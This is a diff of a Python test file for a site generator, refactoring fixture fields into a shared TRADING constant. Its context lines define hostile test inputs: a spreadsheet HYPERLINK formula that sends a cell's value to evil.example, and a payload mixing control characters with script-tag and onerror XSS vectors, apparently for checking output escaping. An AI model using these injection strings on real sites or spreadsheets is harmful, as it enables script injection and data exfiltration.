@@ -13,7 +13,7 @@ from bs4 import BeautifulSoup
 
 from generator.build.run import BuildConfig, build
 from generator.model.snapshot import PRICE_MAX, RAO_MAX, Identity, Subnet, write_snapshot
-from tests.conftest import REPO, make_doc, tiny_neuron_table
+from tests.conftest import REPO, TRADING, make_doc, tiny_neuron_table
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 PAYLOAD = "\u202e\u200b\x00\x0b\x1b\ufffe\U000e0041<script>alert(1)</script><img src=x onerror=alert(2)>" + FORMULA
@@ -48,14 +48,7 @@ def hostile_subnets() -> list[Subnet]:
         symbol=PAYLOAD,
         owner_hotkey=PAYLOAD,
         owner_coldkey="-" + PAYLOAD,
-        tao_in_rao=10**12,
-        alpha_in_rao=10**13,
-        alpha_out_rao=10**13,
-        price_tao=0.1,
-        tao_in_emission_rao=10**7,
-        excess_tao_rao=0,
-        alpha_out_emission_rao=10**9,
-        tempo=99,
+        **TRADING,
         identity=identity,
         hyperparameters={PAYLOAD: PAYLOAD, "kappa": 2**64},
     )
